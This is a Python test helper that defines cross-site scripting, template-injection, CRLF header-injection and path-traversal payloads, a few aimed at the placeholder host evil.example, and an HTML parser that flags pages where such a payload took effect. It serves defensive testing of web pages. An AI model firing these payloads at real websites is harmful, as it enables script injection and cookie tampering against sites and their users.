"""Texts that attack a page, and a check of HTML that finds out whether one of them had an effect."""

import re
from collections.abc import Collection, Mapping
from html.parser import HTMLParser

MARK = "x9q"
"""A part of every payload. No tag and no name of an attribute may contain it."""
EVALUATED = "503951"
"""The result of the expression in the payload for template engines."""

PAYLOADS = (
    f"<script>{MARK}()</script>",
    f'"><img src={MARK} onerror={MARK}()>',
    f"'><svg onload={MARK}()>",
    f"javascript:{MARK}()",
    f"<{MARK}-tag a={MARK}>&lt;b&gt;&#60;i&#62;",
    f"</title></textarea></script></code></pre>-->]]><{MARK}>",
    f"{{{{ 71993*7 }}}}{{% raw %}}${{71993*7}}<%= 71993*7 %>{MARK}",
    f"\u202e{MARK}\u2066\u200f\u0085\ufeff",
    f" onmouseover={MARK}() style=color:red hx-get=//evil.example/{MARK} ",
    f"//evil.example/{MARK}\\..\\%2e%2e/%00\r\nset-cookie: {MARK}=1",
    f"data:text/html,<script>{MARK}()</script>",
    f"{MARK}" + "<b>long" * 5_000,
)
ALL = "".join(PAYLOADS[:-1])

_NAME = re.compile(r"[a-z][a-z0-9_.:-]*")
_ADDRESSES = {"href", "src", "action", "formaction", "hx-get", "hx-post", "xlink:href", "poster", "data", "srcset"}
_FORBIDDEN_TAGS = {"style", "iframe", "object", "embed", "base", "applet", "frame", "link-x"}
_INVISIBLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200f\ufeff]")


class Page(HTMLParser):
    """A page that was read: its links, its forms, and what is wrong with it."""

    def __init__(self, body: bytes, links: Collection[str] = ()) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.links = set(links)
        self.forms: list[tuple[str, str, dict[str, str]]] = []
        """Method, action and fields of each form."""
        text = body.decode()
        if found := _INVISIBLE.search(text):
            self.wrong.append(f"the character {found[0]!r}")
        if EVALUATED in text:
            self.wrong.append("an evaluated payload")
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Check a tag and its attributes."""
        given = {name: value or "" for name, value in attrs}
        self._check(tag, given)
        if tag == "a" and given.get("href", "").startswith("/"):
            self.links.add(given["href"])
        if tag == "form":
            self.forms.append((given.get("method", "get").lower(), given.get("action", ""), {}))
        if tag in ("input", "textarea", "select", "button") and "name" in given and self.forms:
            self.forms[-1][2][given["name"]] = given.get("value", "")

    def _check(self, tag: str, given: Mapping[str, str]) -> None:
        if MARK in tag or tag in _FORBIDDEN_TAGS or not _NAME.fullmatch(tag):
            self.wrong.append(f"the tag <{tag}>")
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.wrong.append("an inline script")
        for name, value in given.items():
            if MARK in name or name.startswith(("on", "hx-on")) or name == "style" or not _NAME.fullmatch(name):
                self.wrong.append(f"the attribute {name} of <{tag}>")
            if name in _ADDRESSES and not re.fullmatch(r"(?:/(?![/\\])|[#?]).*|", value, re.DOTALL):
                self.wrong.append(f"the address {name}={value[:80]!r} of <{tag}>")
        if tag == "meta" and given.get("http-equiv", "").lower() == "refresh":
            address = given.get("content", "").partition("url=")[2]
            if not re.match(r"/(?![/\\])", address):
                self.wrong.append(f"a refresh to {address[:80]!r}")
